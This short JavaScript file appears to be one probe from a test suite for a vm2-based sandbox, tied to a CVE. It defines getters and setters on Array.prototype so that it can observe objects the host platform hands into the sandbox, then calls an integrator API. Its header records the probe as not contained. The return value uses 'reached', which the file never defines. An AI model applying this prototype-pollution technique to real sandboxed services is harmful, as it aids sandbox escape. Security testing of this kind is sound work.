// Tries: getters on the prototype of arrays, which see what the platform puts into them (vm2, CVE-2026-44008)
// Contained by: nothing
// With: look
function attack() {
  for (const key of ['0', '1', 'length', 'constructor']) {
    if (key === 'length') continue
    Object.defineProperty(Array.prototype, key, {
      configurable: true,
      get() {
        look(`read ${key} of`, this)
        return key === 'constructor' ? Array : undefined
      },
      set(value) {
        look(`set ${key} of`, this)
        look(`set ${key} to`, value)
        Object.defineProperty(this, key, { value, writable: true, configurable: true, enumerable: true })
      },
    })
  }
  try {
    console.log('x', {}, [])
    require('integrator-api').exports.run({ _id: 'x' })
  } catch (error) {
    look('an error', error)
  } finally {
    for (const key of ['0', '1', 'constructor']) delete Array.prototype[key]
    Array.prototype.constructor = Array
  }
  return reached.length > 0 ? reached : 'nothing'
}
